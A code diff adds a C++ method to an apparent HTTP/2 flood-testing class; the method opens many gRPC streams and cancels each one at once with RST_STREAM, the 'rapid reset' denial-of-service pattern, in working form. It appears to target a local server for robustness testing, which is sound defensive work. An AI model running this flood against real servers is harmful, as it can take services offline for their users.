@@ -108,6 +108,31 @@ void Http2Flood::Run(const FloodOptions& options) {
   }
 }
 
+int64_t Http2Flood::DropCalls(const std::string& method, int64_t calls, absl::Duration give_up) {
+  // Named once and then by number (RFC 7541 section 6.2.1): 28 bytes per call.
+  std::string fields = "\x83\x86";  // :method POST, :scheme http
+  for (const auto& [name, value] : {std::pair<std::string, std::string>{":path", method},
+                                    {":authority", "localhost"},
+                                    {"content-type", "application/grpc"},
+                                    {"te", "trailers"}}) {
+    fields += "\x40" + Field(name, value).substr(1);
+  }
+  const absl::Time end = absl::Now() + give_up;
+  int64_t sent = 0;
+  while (connected_ && absl::Now() < end && (sent < calls || !out_.empty())) {
+    for (; sent < calls && out_.size() < 65536; ++sent) {
+      const auto id = static_cast<uint32_t>(2 * sent + 1);
+      out_ += Frame(kHeaders, kEndHeaders, id, fields) + Frame(kRstStream, 0, id, BigEndian(8, 4));
+      fields = "\x83\x86\xc1\xc0\xbf\xbe";
+    }
+    pollfd poll_for = {.fd = socket_.get(), .events = POLLIN | POLLOUT};
+    poll(&poll_for, 1, static_cast<int>(absl::ToInt64Milliseconds(end - absl::Now())));
+    if ((poll_for.revents & (POLLIN | POLLHUP | POLLERR)) != 0) Receive();
+    if ((poll_for.revents & POLLOUT) != 0) Send();
+  }
+  return sent;
+}
+
 bool Http2Flood::QueueData(const FloodOptions& options) {
   for (size_t tries = turns_.size(); tries > 0; --tries) {
     const uint32_t id = turns_.front();
